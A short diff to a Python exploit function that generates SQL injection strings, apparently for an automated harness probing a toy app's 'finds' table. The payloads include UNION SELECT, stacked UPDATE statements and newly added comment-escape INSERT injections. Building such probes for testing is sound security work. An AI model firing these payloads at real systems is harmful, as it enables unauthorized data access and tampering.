@@ -25,6 +25,9 @@ def exploit(box, rng):
     endings = [f"{q} UNION SELECT {name} --" for q in "'\""] + sql(f"' || {name} || '")
     endings += [f"{q} || {name}{', 1' * n}) --" for q in ("'", '"', "\"'", "'\"") for n in range(4)]
     endings += [f"{q}{', 1' * n}); UPDATE finds SET place = {name}; --" for q in "'\"" for n in range(4)]
+    # out of a comment that names the place
+    endings += [f"{end} INTO finds (item, place, shelf) SELECT ?, {name} || substr(?, 1, 0), ? --"
+                for end in ("*/", "**//", "***///", "* /", "*\\/")]  # fmt: skip
     said = [find for ending in endings for find in (["a" + ending, "seat 4"], ["hat", "a" + ending])]
     for half in (*cut_quotes(), *placeholders("place")):
         said += [[half, f", {name}, 1) --"], [half, f" || {name}, 1) --"], [half, f", {name}) --"]]
